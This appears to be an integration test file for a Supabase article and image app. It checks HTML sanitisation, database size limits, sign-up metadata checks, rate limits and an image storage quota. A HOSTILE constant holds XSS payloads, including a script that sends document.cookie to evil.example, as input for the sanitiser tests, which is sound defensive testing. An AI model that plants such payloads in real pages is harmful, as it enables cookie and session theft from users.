import { FunctionsHttpError } from "@supabase/supabase-js";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type FunctionsRuntime, startFunctionsRuntime } from "./functions-runtime.ts";
import { anonClient, expectError, ok, pngBytes, serviceClient, signUp, type TestUser } from "./support.ts";

/**
 * Issue 8 from two users' side, with the real supabase-js: article HTML
 * stored only sanitised (save-article), size limits in the database and in
 * the functions, sign-up metadata, per-user rate limits counted in the
 * database (atomically), and the image storage quota, with the functions
 * served by the local functions runtime in front of this backend.
 */

let alice: TestUser;
let bob: TestUser;
let functions: FunctionsRuntime;

const LIMITS = {
  WORDPRESS_CONNECT_RATE_LIMIT: "2",
  AI_RATE_LIMIT: "1",
  IMAGE_RATE_LIMIT: "3",
  IMAGE_STORAGE_QUOTA_BYTES: "5000",
  // Nothing listens there: a provider call fails fast, and never leaves the machine.
  OPENAI_BASE_URL: "http://127.0.0.1:9/v1",
  FAL_BASE_URL: "http://127.0.0.1:9",
};

beforeAll(async () => {
  [alice, bob] = await Promise.all([signUp("alice"), signUp("bob")]);
  functions = await startFunctionsRuntime(LIMITS);
});

afterAll(async () => {
  await functions?.stop();
});

/** A function's answer: status, JSON body and Retry-After, whether it succeeded or not. */
async function invoke(user: TestUser, name: string, body: Record<string, unknown> | FormData) {
  const { data, error } = await (await functions.as(user)).invoke(name, { body });
  if (!error) return { status: 200, body: data as Record<string, unknown>, retryAfter: null };
  if (!(error instanceof FunctionsHttpError)) throw error;
  const response = error.context as Response;
  return { status: response.status, body: await response.json(), retryAfter: response.headers.get("retry-after") };
}

const HOSTILE = '<p>Hello</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
  '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a><svg onload="alert(1)"></svg>';

const articleBody = (overrides: Record<string, unknown> = {}) => ({
  title: "Limits",
  content: "<p>Body</p>",
  excerpt: "Short",
  categories: ["News"],
  tags: ["a"],
  ...overrides,
});

describe("article HTML is stored only after the server sanitised it", () => {
  let articleId: string;

  test("the browser cannot write content through the REST API, neither on insert nor on update", async () => {
    expectError(await alice.client.from("articles").insert({ user_id: alice.id, title: "Raw", content: HOSTILE }));
    const row = ok(await alice.client.from("articles").insert({ user_id: alice.id, title: "No content" }).select("id").single());
    expectError(await alice.client.from("articles").update({ content: HOSTILE }).eq("id", row.id).select());
    const stored = ok(await serviceClient().from("articles").select("content").eq("id", row.id).single());
    expect(stored.content).toBe("");
  });

  test("save-article stores a new draft with scripts, event handlers and javascript: URLs removed", async () => {
    const { status, body } = await invoke(alice, "save-article", articleBody({ content: HOSTILE }));
    expect(status, JSON.stringify(body)).toBe(200);
    articleId = (body.article as { id: string }).id;
    const stored = ok(await alice.client.from("articles").select("content, status, user_id").eq("id", articleId).single());
    expect(stored).toEqual({ content: '<p>Hello</p><img src="x" /><a>click</a>', status: "draft", user_id: alice.id });
  });

  test("bob cannot overwrite alice's article through save-article", async () => {
    const { status, body } = await invoke(
      bob,
      "save-article",
      articleBody({ id: articleId, expectedVersion: 1, title: "Mallory", content: HOSTILE }),
    );
    expect(status).toBe(404);
    expect(body.error).toBe("Article not found");
    const stored = ok(await serviceClient().from("articles").select("title, user_id").eq("id", articleId).single());
    expect(stored).toEqual({ title: "Limits", user_id: alice.id });
  });

  test("bob cannot attach his assistant to alice's article (a 400 naming the field, not a 500)", async () => {
    const bobsAssistant = ok(await bob.client.from("assistants").select("id").limit(1).single()).id;
    const { version } = ok(await serviceClient().from("articles").select("version").eq("id", articleId).single());
    const { status, body } = await invoke(
      alice,
      "save-article",
      articleBody({ id: articleId, expectedVersion: version, assistantId: bobsAssistant }),
    );
    expect([status, body.error]).toEqual([400, "assistantId: Please select an assistant"]);
  });

  test("oversized fields are refused with the form's message; a 20 MiB body before it is read", async () => {
    const title = await invoke(alice, "save-article", articleBody({ title: "t".repeat(501) }));
    expect([title.status, title.body.error]).toEqual([400, "title: Title must be at most 500 characters"]);
    const content = await invoke(alice, "save-article", articleBody({ content: "c".repeat(250_001) }));
    expect([content.status, content.body.error]).toEqual([400, "content: Content must be at most 250,000 characters"]);
    const huge = await invoke(alice, "save-article", articleBody({ content: "c".repeat(20 * 1024 * 1024) }));
    expect(huge.status).toBe(413);
  });
});

describe("sizes are limited in the database itself", () => {
  test("a browser writing oversized text straight to the tables is refused by check constraints", async () => {
    const article = ok(await alice.client.from("articles").insert({ user_id: alice.id, title: "Direct" }).select("id").single());
    // PostgREST answers 400 with code 23514; the local stack answers 500 (a
    // known limit), so the constraint name is what is checked.
    const excerpt = await alice.client.from("articles").update({ excerpt: "e".repeat(2001) }).eq("id", article.id).select();
    expect(excerpt.error?.message).toContain("articles_excerpt_length");
    const tags = await alice.client.from("articles").update({ tags: Array.from({ length: 51 }, (_, i) => `t${i}`) }).eq("id", article.id).select();
    expect(tags.error?.message).toContain("articles_tags_limits");
    const name = await alice.client.from("profiles").update({ first_name: "x".repeat(5 * 1024 * 1024) }).eq("id", alice.id).select();
    expect(name.error).not.toBeNull();
    const profile = ok(await serviceClient().from("profiles").select("first_name").eq("id", alice.id).single());
    expect(profile.first_name).toBe("alice");
  });

  test("sign-up with oversized or unknown metadata is refused and creates no account", async () => {
    const email = (label: string) => `${label}-${crypto.randomUUID().slice(0, 8)}@example.test`;
    const attempts = [
      { first_name: "x".repeat(101), last_name: "Tester", phone_number: "" },
      { first_name: "Eve", padding: "x".repeat(2 * 1024 * 1024) },
      { first_name: "Eve", is_admin: "true" },
    ];
    for (const data of attempts) {
      const address = email("eve");
      const { data: result, error } = await anonClient().auth.signUp({ email: address, password: "pw-long-enough", options: { data } });
      expect(error, JSON.stringify(Object.keys(data))).not.toBeNull();
      expect(result.user).toBeNull();
      const signIn = await anonClient().auth.signInWithPassword({ email: address, password: "pw-long-enough" });
      expect(signIn.error).not.toBeNull();
    }
    const fine = await signUp("frank", { first_name: "F".repeat(100), last_name: "Tester", phone_number: "1".repeat(30) });
    expect(ok(await fine.client.from("profiles").select("first_name").single()).first_name).toHaveLength(100);
  });
});

describe("rate limits are counted in the database, per user, atomically", () => {
  test("no API role may count (or reset) a limit; only the secret key", async () => {
    const args = { p_user_id: alice.id, p_action: "ai_text", p_cost: 1, p_limit: 100, p_window_seconds: 60 };
    expectError(await alice.client.rpc("consume_rate_limit", args));
    expectError(await anonClient().rpc("consume_rate_limit", args));
  });

  test("30 requests at once against a limit of 10: exactly 10 are admitted", async () => {
    const service = serviceClient();
    const consume = (userId: string) =>
      service.rpc("consume_rate_limit", { p_user_id: userId, p_action: "burst", p_cost: 1, p_limit: 10, p_window_seconds: 60 });
    const results = await Promise.all(Array.from({ length: 30 }, () => consume(alice.id)));
    const rows = results.map((result) => ok(result)[0] as { allowed: boolean; retry_after_seconds: number | null });
    expect(rows.filter((row) => row.allowed)).toHaveLength(10);
    for (const row of rows.filter((row) => !row.allowed)) expect(row.retry_after_seconds).toBeGreaterThan(0);
    expect((ok(await consume(bob.id))[0] as { allowed: boolean }).allowed).toBe(true);
  });

  test("wordpress-connect: dry runs count; the third test in the window is answered 429 with Retry-After", async () => {
    const site = { name: "Mine", site_url: "http://127.0.0.1:9/", username: "admin", application_password: "x y z", dryRun: true };
    for (let i = 0; i < 2; i++) {
      const tested = await invoke(alice, "wordpress-connect", site);
      expect(tested.status, JSON.stringify(tested.body)).toBe(422);
    }
    const refused = await invoke(alice, "wordpress-connect", site);
    expect(refused.status).toBe(429);
    expect(refused.body.error).toMatch(/^Too many connection tests: you can run 2 every 10 minutes\. Try again in 10 minutes\.$/);
    expect(Number(refused.retryAfter)).toBeGreaterThan(500);
    expect(refused.body.retryAfterSeconds).toBe(Number(refused.retryAfter));
    expect((await invoke(bob, "wordpress-connect", site)).status, "bob's allowance is his own").toBe(422);
  });

  test("the AI functions share one limit: past it, 429 before the provider is called", async () => {
    expect((await invoke(alice, "save-api-keys", { openaiKey: "sk-integration-test-key", falaiKey: "fal-integration-test-key" })).status)
      .toBe(200);
    const first = await invoke(alice, "keywords", { topic: "gardening" });
    expect(first.status, "the provider (nothing listening) fails").toBeGreaterThanOrEqual(500);
    const second = await invoke(alice, "seo-analysis", { url: "https://example.com" });
    expect(second.status).toBe(429);
    expect(second.body.error).toMatch(/^Too many AI requests: you can make 1 per minute\. Try again in (\d+ seconds|1 minute)\.$/);
  });

  test("generate-image counts images, not calls: 4 images against a limit of 3 are refused", async () => {
    expect((await invoke(bob, "save-api-keys", { falaiKey: "fal-integration-test-key" })).status).toBe(200);
    const refused = await invoke(bob, "generate-image", { prompt: "A fox", numImages: 4 });
    expect([refused.status, refused.body.error]).toEqual([429, "You can generate at most 3 images every 10 minutes."]);
  });
});

describe("image storage quota", () => {
  test("no API role may record images or read usage; the quota is the secret key's to apply", async () => {
    expectError(await alice.client.rpc("record_generated_images", { p_user_id: alice.id, p_quota_bytes: 1e12, p_images: [] }));
    expectError(await alice.client.rpc("image_storage_used", { p_user_id: bob.id }));
  });

  test("records racing for the last bytes: what is stored never passes the quota", async () => {
    const service = serviceClient();
    const row = (name: string) => ({
      storage_path: `${bob.id}/race/${name}.png`,
      public_url: `https://project.example/${name}.png`,
      prompt: "A fox",
      negative_prompt: "",
      image_size: "square_hd",
      style_preset: "photographic",
      num_inference_steps: 30,
      guidance_scale: 7.5,
      content_type: "image/png",
      byte_size: 300,
    });
    const bytes = new Uint8Array(300);
    bytes.set(pngBytes().subarray(0, 8));
    // Each as generate-image does it: upload, record, remove the upload when the record is refused.
    const results = await Promise.all(
      Array.from({ length: 10 }, async (_, i) => {
        const image = row(`r${i}`);
        ok(await service.storage.from("images").upload(image.storage_path, bytes, { contentType: "image/png" }));
        const recorded = ok(
          await service.rpc("record_generated_images", { p_user_id: bob.id, p_quota_bytes: 1000, p_images: [image] }),
        ) as { stored: boolean };
        if (!recorded.stored) ok(await service.storage.from("images").remove([image.storage_path]));
        return recorded.stored;
      }),
    );
    // Records take turns under the user's lock: each sees the files recorded before it.
    expect(results.filter(Boolean)).toHaveLength(3);
    expect(Number(ok(await service.rpc("image_storage_used", { p_user_id: bob.id })))).toBe(900);
  });

  test("generate-image refuses a full library with 403 and how full it is, before any generation", async () => {
    // The quota counts what Storage holds: an image generated earlier, its file and its row.
    const filler = new Uint8Array(5000);
    filler.set(pngBytes().subarray(0, 8));
    ok(await serviceClient().storage.from("images").upload(`${alice.id}/full.png`, filler, { contentType: "image/png" }));
    ok(await serviceClient().from("generated_images").insert({
      user_id: alice.id,
      storage_path: `${alice.id}/full.png`,
      public_url: "https://project.example/full.png",
      prompt: "Filler",
      image_size: "square_hd",
      style_preset: "photographic",
      num_inference_steps: 30,
      guidance_scale: 7.5,
      content_type: "image/png",
      byte_size: 5000,
    }));
    const refused = await invoke(alice, "generate-image", { prompt: "A fox" });
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({
      error: "Your image library is full (4.9 KB of 4.9 KB used). Delete images you no longer need, then try again.",
      usedBytes: 5000,
      quotaBytes: 5000,
    });
  });

  test("upload-image counts in the same quota: an upload that does not fit is refused with 403, nothing stored", async () => {
    const carol = await signUp("carol");
    const upload = (bytes: Uint8Array) => {
      const form = new FormData();
      form.set("file", new Blob([bytes as Uint8Array<ArrayBuffer>], { type: "image/png" }), "mine.png");
      return invoke(carol, "upload-image", form);
    };
    const png = pngBytes();
    const first = await upload(png);
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    const refused = await upload(png);
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({
      error: expect.stringMatching(/^Your image library is full \(.+ of 4\.9 KB used\)\. Delete images you no longer need, then try again\.$/),
      quotaBytes: 5000,
    });
    const rows = ok(await carol.client.from("generated_images").select("id, source"));
    expect(rows).toEqual([{ id: expect.any(String), source: "uploaded" }]);
  });
});
